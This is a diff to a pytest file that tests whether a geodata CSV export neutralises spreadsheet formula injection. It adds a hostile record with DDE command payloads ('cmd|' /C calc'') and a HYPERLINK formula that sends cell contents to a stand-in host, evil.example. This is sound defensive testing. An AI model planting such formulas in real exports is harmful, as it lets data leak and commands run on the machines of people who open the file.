@@ -7,6 +7,7 @@ import json
 import pytest
 
 from geodata.export.formats import csv_text, geojson_bytes, to_geojson
+from tests.hostile import spreadsheet_cells
 
 RECORDS = [
     {"id": "e1", "event_type": "visit", "actors": ["Sergey Lavrov", "Kim Jong Un"], "date_start": "2025-07-12",
@@ -58,3 +59,30 @@ def test_csv_has_every_record_located_or_not() -> None:
     assert rows[0]["actors"] == "Sergey Lavrov; Kim Jong Un"
     assert rows[1]["latitude"] == ""
     assert rows[2]["event_date_end"] == "2025-07-31"
+
+
+# -- CSV opened as a spreadsheet opens it (#18.6) --------------------------------------------
+
+HOSTILE = {"id": "-evil", "event_type": "+attack", "actors": ["@SUM(1+9)*cmd|' /C calc'!A0", "Kim"],
+           "actor1": "@SUM(1+9)", "date_start": "2025-07-12", "date_end": "2025-07-12", "lat": -1.2864,
+           "lon": -36.8172, "place_name": " =1+1", "country_code": "\t=2+2", "geo_precision": "city",
+           "sentence": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "source_title": "=cmd|' /C calc'!A0",
+           "source_url": "\r=3+3", "confidence": -0.5}
+
+
+def test_csv_cells_never_open_as_formulas() -> None:
+    data = csv_text([HOSTILE, RECORDS[0]]).encode("utf-8")
+    rows = spreadsheet_cells(data)
+    assert [cell for row in rows for cell in row if isinstance(cell, tuple)] == []
+    header, hostile = rows[0], dict(zip(rows[0], rows[1]))
+    assert (hostile["latitude"], hostile["longitude"], hostile["confidence"]) == (-1.2864, -36.8172, -0.5)
+    assert hostile["notes"] == "'" + HOSTILE["sentence"] and hostile["source_title"] == "'=cmd|' /C calc'!A0"
+    assert hostile["event_id"] == "'-evil" and hostile["location"] == "' =1+1"
+    assert len(header) == len(rows[1]) == len(rows[2])
+
+
+def test_an_exported_csv_imports_back_without_the_guard() -> None:
+    from timeline.store.importing import read_events_file
+
+    _, (event, _) = read_events_file("back.csv", csv_text([HOSTILE, RECORDS[0]]).encode("utf-8"))
+    assert (event.id, event.sentence, event.place_name) == ("-evil", HOSTILE["sentence"], "=1+1")
